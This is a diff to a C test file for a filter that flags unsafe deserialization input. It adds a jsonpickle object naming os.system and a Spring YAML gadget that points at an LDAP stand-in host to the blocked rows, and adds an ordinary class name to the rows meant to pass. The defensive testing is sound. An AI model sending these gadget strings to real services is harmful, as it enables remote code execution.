@@ -114,6 +114,10 @@ static void blocks_what_each_reader_makes_objects_of(void **state)
          PEN_STR("<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>")},
         {"Hessian",
          PEN_STR("TXQAHWNvbS5zdW4ucm93c2V0LkpkYmNSb3dTZXRJbXBsUwAOZGF0YVNvdXJjZU5hbWU=")},
+        {"a class of jsonpickle's", PEN_STR("{\"py/object\":\"os.system\"}")},
+        {"a class of Java's in YAML",
+         PEN_STR("!!org.springframework.beans.factory.config.PropertyPathFactoryBean "
+                 "{targetBeanName: \"ldap://a.example/\", propertyPath: foo}")},
     };
     filter_case_blocks(&it, "deser", rows, PEN_COUNT_OF(rows));
 }
@@ -173,6 +177,7 @@ static void stays_silent_on_ordinary_data(void **state)
         {"a function in JSON", PEN_STR("{\"fn\":\"function(a){return a}\"}")},
         {"a class in JSON", PEN_STR("{\"json_class\":\"Order\"}")},
         {"an end like a pickle's", PEN_STR("See the list\nR.S.V.P.\n.")},
+        {"an application's own class", PEN_STR("{\"py/object\":\"shop.models.Order\"}")},
     };
     filter_case_passes(&it, "deser", rows, PEN_COUNT_OF(rows));
 }
